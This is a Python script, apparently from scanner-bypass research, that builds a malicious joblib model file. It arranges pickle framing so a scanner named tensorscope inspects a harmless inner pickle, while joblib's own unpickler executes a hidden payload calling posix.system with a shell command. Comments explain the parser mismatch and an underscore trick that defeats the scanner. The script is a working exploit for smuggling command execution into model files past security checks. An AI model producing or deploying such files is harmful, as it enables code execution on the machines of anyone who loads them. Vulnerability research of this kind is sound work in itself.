# joblib object array whose outer FRAME runs past the NumpyArrayWrapper BUILD.
# joblib's pure-Python unpickler has read the whole frame from the file, so NumpyArrayWrapper.read_array
# unpickles the object array from the file position at the END of the frame (payload P, protocol 0);
# tensorscope walks the object array right after BUILD (a benign pickle R1 inside the frame) and sees P
# only as the content of a BINBYTES literal (no PROTO inside it, so it is not probed as a nested pickle).
from h import *
import joblib, numpy as np, io
def build(path, n):
    b = io.BytesIO(); joblib.dump(np.array([1, 'x'], dtype=object), b); d = b.getvalue()
    assert d[:3] == b'\x80\x04\x95'
    flen = struct.unpack('<Q', d[3:11])[0]
    A = d[11:11 + flen]; assert A.endswith(b'ub')
    R1 = b'\x80\x02]q\x00.'
    cmd = sh(n)
    # "p1_0" (PUT 10): the pure-Python unpickler reads it with int(), the scanner refuses the underscore
    P = b"Np1_0\n0cposix\nsystem\n(S'" + cmd.encode() + b"'\ntR."
    assert b'\x80' not in P
    frame = A + R1 + b'B' + struct.pack('<I', len(P))
    data = b'\x80\x04\x95' + struct.pack('<Q', len(frame)) + frame + P + b'0.'
    open(path, 'wb').write(data)
if __name__ == '__main__':
    build('joblib_frame.joblib', 7)
    report('joblib_frame.joblib', 7, 'joblib')
